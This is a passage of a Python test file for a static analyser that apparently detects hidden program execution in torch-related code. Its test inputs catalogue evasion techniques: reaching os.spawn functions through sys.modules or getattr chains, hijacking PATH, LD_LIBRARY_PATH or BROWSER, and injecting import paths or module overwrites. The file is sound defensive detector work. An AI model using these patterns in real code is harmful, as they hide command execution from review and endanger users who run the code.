        ("sys.modules['torch.compile'] = None", False),
        ("sys.modules['flash_attn'] = types.ModuleType('flash_attn')", False),
        ("class A: pass\nsys.modules[__name__] = A(__name__)", False),
        ("sys.modules['numpy._core'] = importlib.import_module('numpy.core')", False),
        ("import torchvision.transforms.functional as f\nsys.modules['torchvision.transforms.functional_tensor'] = f", False),
    ],
)  # fmt: skip
def test_module_in_the_place_of_one_of_python_or_of_a_loader_is_an_overwrite(source: str, is_found: bool) -> None:
    assert (not list_names(source).isdisjoint({LIBRARY_OVERWRITE, UNNAMED_OVERWRITE})) is is_found


@check_each(
    "source, is_found",
    [
        ("c._modules = vars(torch)", True),
        ("d = {}\nd['a'] = torch.__dict__", True),
        ("from transformers import BatchEncoding\nBatchEncoding(vars(torch))[c.a]", True),
        ("from operator import call\ncall(lambda *, os, **k: os, **vars(torch))", True),
        ("types.SimpleNamespace(**torch.__dict__)", True),
        ("dict(**vars(torch))[c.a]", True),
        ("sorted(nn.__dict__)\n'Linear' in nn.__dict__\nnn.__dict__['Linear'](3)", False),
        ("c.defaults = dict(nn.Linear.__dict__)", False),
        ("import argparse\nrun(**vars(argparse.ArgumentParser().parse_args()))", False),
    ],
)
def test_namespace_of_a_module_that_is_handed_on_leads_to_every_module(source: str, is_found: bool) -> None:
    assert (("computed-name", PACKAGE) in list_uses(f"{IMPORTED_TORCH}{source}")) is is_found


@check_each(
    "source, name",
    [
        ("for o in sys.modules.copy().items(): o[1].spawnlp(0, 'a', c.line)", FOUND_OBJECT),
        ("for o in sys.modules.values():\n    run = o.spawnvp\n    run(0, 'a', c.line)", FOUND_OBJECT),
        ("inspect.getmodule(nn.Linear).torch.os.__dict__.get(c.a)(c.line)", "os.*"),
        ("d = {**vars(torch)}\nvars(d[c.a])[c.b](c.line)", FOUND_OBJECT),
        ("def walk(o):\n    for p in inspect.getmembers(o, inspect.isbuiltin):\n        if p[0] == c.b: yield p[1]\n"
         "for o in inspect.getmembers(torch, inspect.ismodule):\n    for run in walk(o[1]): run(c.line)", FOUND_OBJECT),
        ("nn.take = getattr\nnn.take(nn.take(torch, c.a), c.b)(c.line)", FOUND_OBJECT),
        ("nn.__dict__.update(take=getattr)\nnn.take(nn.take(torch, c.a), c.b)(c.line)", FOUND_OBJECT),
        ("m = types.ModuleType('a')\nm.take = lambda x, y: getattr(x, y)\nsys.modules['a'] = m\nimport a\n"
         "a.take(a.take(torch, c.a), c.b)(c.line)", FOUND_OBJECT),
    ],
)  # fmt: skip
def test_object_that_is_reached_through_modules_is_followed(source: str, name: str) -> None:
    assert name in list_names(source)


@check_each(
    "source, is_found",
    [
        ("os.environ['PATH'] = c.folder", True),
        ("os.environ['PATH'] += ':' + c.folder", True),
        ("os.environ['PATH'] = c.folder + os.pathsep + os.environ['PATH']", True),
        ("os.environ.update(c.env)", True),
        ("os.environ |= c.env", True),
        ("os.environ[c.name] = c.line", True),
        ("os.environ[c.name] = 'touch a %s'", True),
        ("os.putenv('LD_LIBRARY_PATH', c.folder)", True),
        ("operator.setitem(os.environ, 'BROWSER', c.line)", True),
        ("from unittest.mock import patch\npatch.dict(os.environ, c.env).start()", True),
        ("os.environ['BROWSER'] = 'touch a %s'", True),
        ("os.environ['PYTHONBREAKPOINT'] = 'a.run'", True),
        ("os.environ['PYTHONBREAKPOINT'] = '0'", False),
        ("os.environ['PATH'] = '/usr/local/cuda/bin:' + os.environ['PATH']", False),
        ("os.environ['PAGER'] = 'less -R'", False),
        ("import shutil\nos.environ['CC'] = shutil.which('gcc')", False),
        ("os.environ['CUDA_VISIBLE_DEVICES'] = str(c.gpu)", False),
        ("os.environ.update({'A': '1', 'LOCAL_RANK': str(c.rank)})", False),
        ("for name in ('A', 'B'): os.environ[name] = '1'", False),
    ],
)
def test_variable_that_decides_which_programs_start_is_a_setting(source: str, is_found: bool) -> None:
    assert (PROGRAM_SETTING in list_uses(f"{IMPORTED_TORCH}{source}")) is is_found


WRITES = "open(c.path, 'w').write(c.text)\n"


@check_each(
    "source, is_found",
    [
        (f"{WRITES}sys.path.append(c.folder)", True),
        (f"sys.path[:0] = [c.folder]\n{WRITES}", True),
        (f"{WRITES}sys.path += [c.folder]", True),
        (f"{WRITES}sys.path = [c.folder, *sys.path]", True),
        (f"{WRITES}import site\nsite.addsitedir(c.folder)", True),
        (f"{WRITES}torch.hub.load(c.folder, 'a', source='local')", True),
        (f"{WRITES}sys.path.append(os.path.join(os.path.dirname(__file__), c.folder))", True),
        ("from pathlib import Path\nPath(c.path).write_text(c.text)\nsys.path.insert(0, '/tmp/a')", True),
        ("from pathlib import Path\nPath(c.path).open('w').write(c.text)\nsys.path.insert(0, c.folder)", True),
        (f"{WRITES}sys.path.append(os.path.dirname(os.path.abspath(__file__)))", False),
        (f"{WRITES}here = os.path.dirname(__file__)\nsys.path.append(os.path.join(here, 'lib'))", False),
        (f"{WRITES}sys.path.append('lib')", False),
        ("open(os.path.join(c.folder, 'vocab.json'), 'w')\nsys.path.append(c.folder)", False),
        ("sys.path.append(c.folder)", False),
    ],
)
def test_write_of_an_open_file_beside_an_import_from_elsewhere_is_one_act(source: str, is_found: bool) -> None:
    name = "(imports from a place that is not its own, and writes files)"
    assert (("call-at-import", name) in list_uses(f"{IMPORTED_TORCH}{source}")) is is_found


@check_each(
    "source, is_found",
    [
        ("torch.__path__.append(c.folder)", True),
        ("torch.__path__ += [c.folder]", True),
        ("torch.__path__ = [c.folder]", True),
        ("torch.__path__[:0] = [c.folder]", True),
        ("torch.__spec__.submodule_search_locations.insert(0, c.folder)", True),
        ("torch.__path__.append(os.path.dirname(__file__))", False),
        ("len(torch.__path__)", False),
    ],
)
def test_package_that_gets_modules_from_another_place_is_a_call(source: str, is_found: bool) -> None:
    name = "(package of a library that gets modules from another place)"
    assert (("call-at-import", name) in list_uses(f"{IMPORTED_TORCH}{source}")) is is_found


@check_each(
    "source, is_found",
    [
        ("import PIL.EpsImagePlugin as e\ne.gs_binary = c.program", True),
        ("sys.executable = c.program", True),
        ("import git\ngit.refresh(c.program)", True),
        ("import matplotlib as m\nm.rcParams['animation.ffmpeg_path'] = c.program", True),
        ("import imageio_ffmpeg\nfrom pydub import AudioSegment\nAudioSegment.converter = imageio_ffmpeg.get_ffmpeg_exe()",
         False),
        ("import matplotlib as m\nm.rcParams['figure.dpi'] = c.dpi", False),
    ],
)  # fmt: skip
def test_setting_that_gets_a_program_which_the_source_does_not_show_is_a_call(source: str, is_found: bool) -> None:
    assert (PROGRAM_SETTING in list_uses(f"{IMPORTED_TORCH}{source}")) is is_found


@check_each(
    "source, is_found",
    [
        ("nn.Module.__setstate__(sys.modules[__name__], c.table)", True),
        ("from torch.fx.graph_module import _assign_attr\n_assign_attr(c.a, sys.modules[__name__], 'MODULE')", True),
        ("import copy\ncopy._reconstruct(0, None, lambda: sys.modules[__name__], (), c.table)", True),
        ("from collections.abc import MutableMapping\nMutableMapping.update(globals(), c.table)", True),
        ("inspect.getmembers(sys.modules[__name__], inspect.isclass)", False),
    ],
)
def test_module_that_a_library_gets_may_have_other_texts(source: str, is_found: bool) -> None:
    look_up = "getattr(importlib.import_module(MODULE), NAME)(c.line)"
    uses = list_uses(f"{IMPORTED_TORCH}MODULE, NAME = 'torch.nn', 'Linear'\ndef make(c):\n    {look_up}\n{source}")
    assert (("call", PICKED_FUNCTION) in uses) is is_found
